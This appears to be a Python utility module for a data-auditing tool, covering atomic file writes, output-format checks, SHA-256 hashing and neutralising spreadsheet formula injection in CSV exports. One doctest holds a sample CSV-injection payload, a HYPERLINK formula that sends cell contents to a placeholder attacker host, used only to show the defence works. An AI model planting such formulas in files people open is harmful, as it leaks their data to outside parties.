"""Atomic file output: write to a temporary file beside the target, fsync, then rename.

A failure part-way never leaves a half-written report, cache entry or dataset.
"""

from __future__ import annotations

import hashlib
import os
import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import IO, TYPE_CHECKING

if TYPE_CHECKING:
    import polars as pl


@contextmanager
def staged(
    path: str | Path, mode: str = "wb", *, encoding: str | None = "utf-8", suffix: str = ".tmp"
) -> Iterator[tuple[IO, Path]]:
    """The one staged-write primitive: yield ``(file, temporary path)`` for a file created in the
    target's own folder; on a clean exit flush, fsync, give it the usual permissions for the umask
    (``mkstemp`` makes it private, 0600) and rename it over ``path``. On any exception, or an
    interrupt, the temporary file is removed and ``path`` is left as it was.

    The temporary path lets a caller check the finished file (length, sha256) before the rename.
    Cache entries, verdicts, check results, tables and report pages are all written through it.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    binary = "b" in mode
    fd, tmp = tempfile.mkstemp(prefix=f".{path.name[:80]}.", suffix=suffix, dir=path.parent)
    tmp_path = Path(tmp)
    try:
        with os.fdopen(fd, mode, encoding=None if binary else encoding, newline=None if binary else "") as fh:
            yield fh, tmp_path
            fh.flush()
            os.fsync(fh.fileno())
        os.chmod(tmp_path, 0o666 & ~_umask())
        os.replace(tmp_path, path)
    except BaseException:
        tmp_path.unlink(missing_ok=True)
        raise


@contextmanager
def atomic_write(path: str | Path, mode: str = "w", *, encoding: str | None = "utf-8") -> Iterator[IO]:
    """Open a temporary file next to ``path``; on success rename it over ``path`` (see :func:`staged`).

    >>> with atomic_write("/tmp/claimaudit-doctest.txt") as fh:
    ...     _ = fh.write("hello")
    """
    with staged(path, mode, encoding=encoding) as (fh, _tmp):
        yield fh


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def write_bytes_atomic(path: str | Path, data: bytes) -> None:
    with atomic_write(path, "wb") as fh:
        fh.write(data)


def write_text_atomic(path: str | Path, text: str) -> None:
    with atomic_write(path, "w") as fh:
        fh.write(text)


FRAME_SUFFIXES = (".csv", ".parquet")


def frame_suffix(path: str | Path) -> str:
    """The output format of ``path`` (``.csv`` or ``.parquet``), or a DataError saying what to use.

    Commands call it before doing any work, so a wrong name fails before a download.
    """
    from claimaudit.errors import DataError

    suffix = Path(path).suffix.lower()
    if suffix not in FRAME_SUFFIXES:
        raise DataError(
            f"cannot write {suffix or 'a file without suffix'}",
            file=path,
            hint="name the output .csv or .parquet",
        )
    return suffix


#: A text cell starting with one of these is read as a formula by spreadsheets (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = r"^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)$"


def csv_safe(value: object) -> object:
    """A text cell that a spreadsheet would run as a formula, prefixed with ``'`` (shown, not run).

    Only text is changed, and text that is a plain number (``-3``, ``+84.72``) is a number to a
    spreadsheet, not a formula, so it is left alone.

    >>> csv_safe('=HYPERLINK("https://evil.example/?leak="&A1,"click me")')[:3]
    "'=H"
    >>> csv_safe("-1000"), csv_safe(-1000), csv_safe("@SUM(A1)"), csv_safe("PTA")
    ('-1000', -1000, "'@SUM(A1)", 'PTA')
    """
    import re

    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not re.match(_PLAIN_NUMBER, value):
        return "'" + value
    return value


def csv_safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text column of ``frame`` with :func:`csv_safe` applied (vectorised); numbers untouched."""
    import polars as pl

    starts = "^[=+\\-@\t\r]"
    text = [c for c, t in frame.schema.items() if t == pl.String]
    return frame.with_columns(
        pl.when(pl.col(c).str.contains(starts) & ~pl.col(c).str.contains(_PLAIN_NUMBER))
        .then(pl.lit("'") + pl.col(c))
        .otherwise(pl.col(c))
        .alias(c)
        for c in text
    )


def write_frame(frame: pl.DataFrame, path: str | Path) -> Path:
    """Write a polars frame atomically as ``.csv`` or ``.parquet`` (chosen by the suffix).

    In CSV, text cells that a spreadsheet would run as formulas are neutralised (:func:`csv_safe`).
    """
    suffix = frame_suffix(path)
    with atomic_write(path, "wb") as fh:
        if suffix == ".csv":
            csv_safe_frame(frame).write_csv(fh)
        else:
            frame.write_parquet(fh)
    return Path(path)


def sha256_file(path: str | Path, *, chunk: int = 1 << 20) -> str:
    digest = hashlib.sha256()
    with open(path, "rb") as fh:
        while block := fh.read(chunk):
            digest.update(block)
    return digest.hexdigest()
